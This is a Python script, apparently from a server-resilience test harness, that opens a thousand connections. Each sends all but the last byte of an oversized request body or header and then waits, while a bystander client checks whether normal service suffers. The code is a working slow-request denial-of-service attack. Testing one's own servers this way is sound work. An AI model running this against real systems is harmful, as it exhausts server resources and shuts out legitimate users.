"""Many clients that send all but the last byte of the largest head or body, and wait."""

import attack

options = attack.arguments(__doc__, connections=1000, bytes=1_000_000, part="body")
if options.part == "body":
    begin = attack.request(
        "POST", options.path, ["Content-Type: application/json", f"Content-Length: {options.bytes + 1}"]
    ) + b" " * options.bytes
else:
    begin = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X: " + b"x" * options.bytes
held, refused = [], 0
with attack.Bystander(options.port, options.small, options.control) as bystander:
    for _ in range(options.connections):
        connection = attack.connect(options.port)
        connection.settimeout(2)
        try:
            connection.sendall(begin)
            held.append(connection)
        except OSError:
            refused += 1
            connection.close()
    bystander.over.wait(options.seconds)
attack.tell(options, held=len(held), refused=refused, bystander=bystander.told())
